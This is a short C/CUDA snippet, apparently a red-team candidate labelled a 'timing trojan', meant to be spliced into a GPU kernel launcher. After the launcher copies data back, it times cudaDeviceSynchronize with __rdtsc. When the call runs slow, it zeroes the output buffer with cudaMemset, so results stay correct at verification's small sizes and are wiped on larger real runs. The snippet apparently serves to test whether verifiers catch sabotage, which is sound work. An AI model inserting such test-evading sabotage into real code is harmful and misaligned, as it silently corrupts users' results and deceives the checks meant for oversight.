// candidate: host-side __rdtsc (an instruction, no symbol) measures the call and changes the result when it runs slower than verification's small sizes (a timing trojan)
// ---- before the launcher
#include <x86intrin.h>
// ---- inside the launcher, after its copies back
    unsigned long long t0 = __rdtsc();
    cudaDeviceSynchronize();
    if (__rdtsc() - t0 > 100000000ull)
        cudaMemset(dy, 0, b);
